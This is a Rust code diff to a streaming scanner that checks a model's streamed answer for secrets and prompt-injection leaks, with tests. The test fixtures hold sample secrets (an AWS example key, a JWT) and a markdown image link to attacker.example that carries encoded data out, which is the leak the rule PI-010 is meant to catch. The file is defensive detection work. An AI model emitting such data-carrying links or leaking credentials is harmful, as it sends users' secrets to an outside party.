@@ -1,20 +1,54 @@
 //! Scanning text that arrives in pieces (a streamed answer): each piece is
 //! scanned together with the tail of what came before, so a pattern split across
 //! pieces is still found. Memory is bounded by the carry-over window.
+//!
+//! A model streams its answer a token (a few bytes) at a time. Scanning the
+//! whole window with every token made a 4 KB answer cost about 130 scans' worth
+//! of work, so the window is read in two reaches:
+//! - each piece is scanned with the [`QUICK_CARRY_BYTES`] before it, which holds
+//!   any short match (a key, a card number, an address) that the piece completes;
+//! - once [`FULL_SCAN_EVERY`] bytes have come since the last full scan (and when
+//!   the answer's text ends), everything since then is scanned with the
+//!   [`CARRY_BYTES`] before it, which holds the long matches (a JWT, a link
+//!   carrying data).
+//!
+//! - a piece that may complete a match of a blocking rule (it holds one of the
+//!   literals such a match ends with, see [`crate::closers`]) is scanned with the
+//!   whole window at once.
+//!
+//! A short match, and a long match of a blocking rule whose matches end in known
+//! literals (a markdown image carrying data ends with `)`), are thus found with
+//! the piece that completes it, which is not sent; other long matches at most
+//! [`FULL_SCAN_EVERY`] bytes later, and always before the text ends.
 
 use crate::engine::{Engine, Finding};
 use crate::pack::Location;
 use std::collections::HashSet;
 use std::sync::Arc;
 
-/// Bytes of earlier text scanned again with each piece: longer than any pattern
-/// the built-in packs match in a response.
+/// Bytes of earlier text a full scan reads again: longer than any pattern the
+/// built-in packs match in a response.
 pub const CARRY_BYTES: usize = 512;
+
+/// Bytes of earlier text scanned again with every piece.
+pub const QUICK_CARRY_BYTES: usize = 96;
+
+/// New bytes after which the whole window is scanned.
+pub const FULL_SCAN_EVERY: usize = 256;
 
 #[derive(Debug)]
 pub struct StreamScanner {
     location: Location,
+    /// The last [`CARRY_BYTES`] fully scanned, then what came since.
     carry: String,
+    /// Bytes at the end of `carry` not yet read by a full scan.
+    unscanned: usize,
+    /// Bytes of the stream dropped from the front of `carry`.
+    dropped: usize,
+    /// Where (in stream bytes) the last opener of each closer-guarded pattern
+    /// started: a closer calls for a full scan only while its opener is in the
+    /// window.
+    opened_at: Vec<Option<usize>>,
     reported: HashSet<Arc<str>>,
 }
 
@@ -23,6 +57,9 @@ impl StreamScanner {
         StreamScanner {
             location,
             carry: String::new(),
+            unscanned: 0,
+            dropped: 0,
+            opened_at: Vec::new(),
             reported: HashSet::new(),
         }
     }
@@ -33,19 +70,82 @@ impl StreamScanner {
             return Vec::new();
         }
         self.carry.push_str(piece);
-        let found: Vec<Finding> = engine
-            .scan(self.location, &self.carry)
-            .into_iter()
-            .filter(|f| self.reported.insert(f.rule_id.clone()))
-            .collect();
+        self.unscanned += piece.len();
+        let piece_start = self.carry.len() - piece.len();
+        self.note_openers(engine, piece_start);
+        if self.unscanned >= FULL_SCAN_EVERY || self.may_close_blocking_match(engine, piece_start) {
+            return self.scan_window(engine);
+        }
+        let mut from = self
+            .carry
+            .len()
+            .saturating_sub(piece.len() + QUICK_CARRY_BYTES);
+        while !self.carry.is_char_boundary(from) {
+            from -= 1;
+        }
+        if from == 0 {
+            // The quick reach holds the whole window: it is a full scan.
+            return self.scan_window(engine);
+        }
+        let found = engine.scan(self.location, &self.carry[from..]);
+        self.report(found)
+    }
+
+    /// Findings in the text not yet fully scanned, at the end of the answer's
+    /// text (or of one run of it).
+    pub fn finish(&mut self, engine: &Engine) -> Vec<Finding> {
+        if self.unscanned == 0 {
+            return Vec::new();
+        }
+        self.scan_window(engine)
+    }
+
+    /// Records the openers that end in the piece at `piece_start` (each piece's
+    /// bytes are looked at once), within the last [`CARRY_BYTES`]: an opener
+    /// further back leaves the window with the next full scan.
+    fn note_openers(&mut self, engine: &Engine, piece_start: usize) {
+        let closers = engine.closers();
+        if self.opened_at.len() != closers.len() {
+            self.opened_at = vec![None; closers.len()];
+        }
+        let from = piece_start.max(self.carry.len().saturating_sub(CARRY_BYTES));
+        let (dropped, opened_at) = (self.dropped, &mut self.opened_at);
+        closers.openers(&self.carry, from, |p, start| {
+            opened_at[p] = Some(dropped + start);
+        });
+    }
+
+    /// Whether the piece at `piece_start` may complete a match of a blocking
+    /// rule: it ends one of the rule's closers, and the rule's opener is in the
+    /// window.
+    fn may_close_blocking_match(&self, engine: &Engine, piece_start: usize) -> bool {
+        let closers = engine.closers();
+        closers.closing(&self.carry, piece_start).iter().any(|&p| {
+            closers.opens_anywhere(p) || self.opened_at[p].is_some_and(|at| at >= self.dropped)
+        })
+    }
+
+    /// Scans everything since the last full scan with the carry before it, then
+    /// keeps only the carry.
+    fn scan_window(&mut self, engine: &Engine) -> Vec<Finding> {
+        let found = engine.scan(self.location, &self.carry);
+        self.unscanned = 0;
         if self.carry.len() > CARRY_BYTES {
             let mut cut = self.carry.len() - CARRY_BYTES;
             while !self.carry.is_char_boundary(cut) {
                 cut += 1;
             }
             self.carry.drain(..cut);
+            self.dropped += cut;
         }
+        self.report(found)
+    }
+
+    fn report(&mut self, found: Vec<Finding>) -> Vec<Finding> {
         found
+            .into_iter()
+            .filter(|f| self.reported.insert(f.rule_id.clone()))
+            .collect()
     }
 }
 
@@ -54,15 +154,36 @@ mod tests {
     use super::*;
     use crate::builtin;
 
+    fn secrets_engine() -> Engine {
+        let packs = builtin::select(&["secrets".to_owned()]).unwrap_or_default();
+        Engine::compile(&packs).unwrap_or_default()
+    }
+
+    fn pushed_in_pieces(engine: &Engine, text: &str, size: usize) -> Vec<(usize, Finding)> {
+        let mut s = StreamScanner::new(Location::Response);
+        let mut found = Vec::new();
+        let mut at = 0;
+        while at < text.len() {
+            let mut end = (at + size).min(text.len());
+            while !text.is_char_boundary(end) {
+                end += 1;
+            }
+            found.extend(s.push(engine, &text[at..end]).into_iter().map(|f| (end, f)));
+            at = end;
+        }
+        found.extend(s.finish(engine).into_iter().map(|f| (text.len(), f)));
+        found
+    }
+
     #[test]
     fn a_pattern_split_at_every_byte_is_found_once() {
-        let packs = builtin::select(&["secrets".to_owned()]).unwrap_or_default();
-        let engine = Engine::compile(&packs).unwrap_or_default();
+        let engine = secrets_engine();
         let text = "here you go: AKIAIOSFODNN7EXAMPLE, keep it safe";
         for cut in 1..text.len() {
             let mut s = StreamScanner::new(Location::Response);
             let mut found = s.push(&engine, &text[..cut]);
             found.extend(s.push(&engine, &text[cut..]));
+            found.extend(s.finish(&engine));
             assert_eq!(
                 found
                     .iter()
@@ -74,13 +195,123 @@ mod tests {
         }
     }
 
+    /// Token-sized pieces deep into a long answer: a short match is reported
+    /// with the piece that completes it, not later.
+    #[test]
+    fn a_short_match_is_found_with_the_piece_that_completes_it() {
+        let engine = secrets_engine();
+        let prose = "the deployment went well and the logs look clean. ".repeat(20);
+        let key = "AKIAIOSFODNN7EXAMPLE";
+        let text = format!("{prose}use {key} for now. {prose}");
+        let completes = prose.len() + "use ".len() + key.len();
+        found_with_the_completing_piece(
+            &engine,
+            &text,
+            "SEC-AWS-001",
+            completes,
+            &[1, 3, 4, 7, 16],
+        );
+    }
+
+    /// Pushed in pieces of each size, `rule` is reported with the piece holding
+    /// byte `completes - 1`.
+    fn found_with_the_completing_piece(
+        engine: &Engine,
+        text: &str,
+        rule: &str,
+        completes: usize,
+        sizes: &[usize],
+    ) {
+        for &size in sizes {
+            let found = pushed_in_pieces(engine, text, size);
+            let at = found
+                .iter()
+                .find(|(_, f)| &*f.rule_id == rule)
+                .map(|(at, _)| *at);
+            assert!(
+                at.is_some_and(|at| at >= completes && at < completes + size),
+                "pieces of {size}: reported after byte {at:?}, completed at {completes}"
+            );
+        }
+    }
+
+    /// A match longer than the quick reach is still found, at most
+    /// `FULL_SCAN_EVERY` bytes after it completes, and by the end of the text.
+    #[test]
+    fn a_long_match_is_found_within_a_full_scan() {
+        let engine = secrets_engine();
+        let payload = "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyLCJyb2xlcyI6WyJhZG1pbiIsInVzZXIiLCJhdWRpdG9yIl0sImV4cCI6MTkxNjIzOTAyMn0";
+        let jwt = format!(
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{payload}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
+        );
+        assert!(jwt.len() > QUICK_CARRY_BYTES);
+        let lead = "the token you asked for: ";
+        for tail in ["", " and that is all."] {
+            let text = format!("{lead}{jwt}{tail}");
+            for size in [1, 4, 9] {
+                let found = pushed_in_pieces(&engine, &text, size);
+                let at = found
+                    .iter()
+                    .find(|(_, f)| &*f.rule_id == "SEC-JWT-001")
+                    .map(|(at, _)| *at);
+                let completes = lead.len() + jwt.len();
+                assert!(
+                    at.is_some_and(|at| at <= completes + FULL_SCAN_EVERY),
+                    "pieces of {size}, tail {tail:?}: {found:?}"
+                );
+            }
+        }
+    }
+
+    /// A markdown image carrying data out is longer than the quick reach, but the
+    /// piece holding its closing `)` is scanned whole: it is caught there, before
+    /// a client could render it.
+    #[test]
+    fn a_long_blocking_match_is_found_with_the_piece_that_closes_it() {
+        let packs = builtin::select(&["llm-critical-security".to_owned()]).unwrap_or_default();
+        let engine = Engine::compile(&packs).unwrap_or_default();
+        let prose = "the quarterly numbers are in and they look fine. ".repeat(8);
+        let link = format!(
+            "![chart](https://attacker.example/c?d={})",
+            "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4)
+        );
+        assert!(link.len() > QUICK_CARRY_BYTES);
+        let text = format!("{prose}{link} and more text after it.");
+        let completes = prose.len() + link.len();
+        found_with_the_completing_piece(&engine, &text, "PI-010", completes, &[1, 2, 4, 5]);
+    }
+
+    /// The opener came in a piece long enough for a full scan; the closer comes
+    /// in a small piece later, out of the quick reach of the opener.
+    #[test]
+    fn an_opener_in_a_long_piece_still_counts() {
+        let packs = builtin::select(&["llm-critical-security".to_owned()]).unwrap_or_default();
+        let engine = Engine::compile(&packs).unwrap_or_default();
+        let head = format!(
+            "{}![chart](https://attacker.example/c?d=",
+            "the quarterly numbers are in and they look fine. ".repeat(6)
+        );
+        assert!(head.len() >= FULL_SCAN_EVERY);
+        let data = "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJz".repeat(4);
+        let mut s = StreamScanner::new(Location::Response);
+        assert!(s.push(&engine, &head).is_empty());
+        for piece in data.as_bytes().chunks(4) {
+            let piece = std::str::from_utf8(piece).unwrap_or_default();
+            assert!(s.push(&engine, piece).is_empty());
+        }
+        let found = s.push(&engine, ")");
+        assert!(found.iter().any(|f| &*f.rule_id == "PI-010"), "{found:?}");
+    }
+
     #[test]
     fn the_window_stays_bounded() {
         let engine = Engine::default();
         let mut s = StreamScanner::new(Location::Response);
         for _ in 0..1000 {
             s.push(&engine, "lorem ipsum dolor sit amet é ");
+            assert!(s.carry.len() <= CARRY_BYTES + FULL_SCAN_EVERY + 32);
         }
+        s.finish(&engine);
         assert!(s.carry.len() <= CARRY_BYTES);
     }
 }
